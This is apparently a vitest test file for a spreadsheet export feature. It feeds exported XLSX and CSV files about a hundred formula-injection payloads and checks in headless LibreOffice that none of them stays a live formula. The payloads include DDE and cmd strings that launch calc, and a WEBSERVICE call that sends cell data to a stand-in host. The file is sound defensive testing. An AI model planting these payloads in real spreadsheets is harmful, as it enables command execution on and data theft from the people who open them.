import { execFile } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import { unzip } from '../../domain/zip.ts';
import { formFiles } from '../../exports/kibernadzor/form-csv.ts';
import { formXlsx } from '../../exports/kibernadzor/form-xlsx.ts';
import { findProgram } from '../engines/places.ts';
import { batchOrder } from './samples.ts';

const run = promisify(execFile);
const builtAt = new Date('2026-11-22T10:00:00.000Z');

/** What a fraudster may put on a page so that an officer's spreadsheet runs it. */
const CALLS = [
  '1+1',
  'HYPERLINK("https://piramida.test";"жми")',
  'WEBSERVICE("https://piramida.test/?"&A1)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("https://piramida.test";"//a")',
  'SUM(A1:A9)',
  'INDIRECT("A1")',
  'EXEC("calc")',
  'RAND()',
];
const PAYLOADS: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r\n=',
  '  =',
  '＝',
  '"=',
  '\u200b=',
].flatMap((start) => CALLS.map((call) => `${start}${call}`));

describe('the workbook of the form', () => {
  const referrals = PAYLOADS.map((payload) => {
    const [one] = batchOrder(1).referrals;
    return { ...one!, reasonRu: payload, caseId: payload, offense: payload };
  });

  test('is the same bytes for the same rows, and holds a guide beside them', async () => {
    const bytes = await formXlsx(batchOrder(2).referrals, builtAt);
    expect(await formXlsx(batchOrder(2).referrals, builtAt)).toEqual(bytes);
    const files = await unzip(bytes);
    expect(files.get('xl/workbook.xml')!.toString()).toContain('Инструкция');
    const sheet = files.get('xl/worksheets/sheet1.xml')!.toString();
    expect(sheet).toContain('>Нарушение<');
    expect(sheet).not.toContain('<f>');
  });

  test.skipIf(findProgram('soffice') === null)(
    `opens in LibreOffice with none of ${PAYLOADS.length} formulas alive, nor does the CSV`,
    async () => {
      const folder = await mkdtemp(join(tmpdir(), 'kuzet-xlsx-'));
      try {
        await writeFile(join(folder, 'book.xlsx'), await formXlsx(referrals, builtAt));
        for (const { name, bytes } of formFiles(referrals)) await writeFile(join(folder, name), bytes);
        await run(
          'soffice',
          [
            ...[`-env:UserInstallation=file://${folder}/profile`, '--headless', '--infilter=CSV:59,34,76,1'],
            ...['--convert-to', 'fods', '--outdir', join(folder, 'out'), join(folder, 'book.xlsx')],
            ...(await readdir(folder))
              .filter((name) => name.endsWith('.csv'))
              .map((name) => join(folder, name)),
          ],
          { timeout: 100_000 },
        );
        const opened = (await readdir(join(folder, 'out'))).sort();
        expect(opened).toEqual(['book.fods', 'links.fods']);
        for (const name of opened) {
          const sheet = await readFile(join(folder, 'out', name), 'utf8');
          expect(sheet.match(/<table:table-row/g)!.length).toBeGreaterThan(PAYLOADS.length);
          expect([name, sheet.match(/table:formula=/g)?.length ?? 0]).toEqual([name, 0]);
          expect(sheet).toContain('HYPERLINK');
        }
      } finally {
        await rm(folder, { recursive: true, force: true });
      }
    },
    120_000,
  );
});
